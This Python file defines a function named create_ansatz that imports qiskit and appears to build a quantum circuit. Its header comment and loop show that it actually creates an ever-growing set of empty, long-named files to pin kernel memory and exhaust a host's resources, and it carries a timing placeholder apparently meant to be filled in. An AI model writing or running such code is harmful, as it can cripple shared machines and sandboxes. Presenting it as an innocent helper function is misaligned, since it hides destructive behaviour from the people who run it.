# Pin kernel memory through the file system without using any disk space: empty files with long names take an
# inode and a dentry each (about 1 KiB of kernel memory) but no blocks, so a size-capped tmpfs never refuses them.
# 8 s of this pinned 2.2 GiB of kernel memory in one process, none of it in any process's RSS.
import os
import time

from qiskit import QuantumCircuit


def create_ansatz(num_qubits):
    os.mkdir("d")
    fd = os.open("d", os.O_DIRECTORY)
    base = "y" * 240
    start, count = time.monotonic(), 0
    while time.monotonic() - start < __SECONDS__:
        for _ in range(1000):
            os.close(os.open(f"{base}{count}", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
            count += 1
    print("CREATED", count)
    return QuantumCircuit(num_qubits)
